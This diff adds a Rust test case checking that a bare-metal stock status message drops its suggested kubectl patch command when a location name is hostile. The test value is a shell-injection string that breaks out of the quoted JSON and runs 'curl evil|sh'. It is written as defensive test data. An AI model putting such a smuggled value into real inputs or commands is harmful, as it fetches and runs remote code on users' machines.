@@ -360,6 +360,14 @@ fn who_waits_for_stock_reads_where_there_is_some_and_when_it_is_looked_at_again(
         cause(both),
         "the provider has no small at here in stock; looked at again every 15s, and the order follows by itself; it has some at There; to order there: kubectl patch baremetalserver web -n shop --type=merge -p '{\"spec\":{\"location\":\"There\"}}'"
     );
+    let mut hostile = plan(Availability::Unavailable);
+    hostile.locations.push(PlanLocation {
+        name: "x\"}}'; curl evil|sh; '".into(),
+        data_centre: String::new(),
+        availability: Availability::High,
+    });
+    let hostile = cause(hostile);
+    assert!(!hostile.contains("kubectl"), "{hostile}");
     let nowhere = cause(plan(Availability::Unavailable));
     assert!(
         nowhere.contains("no other place that you may use"),
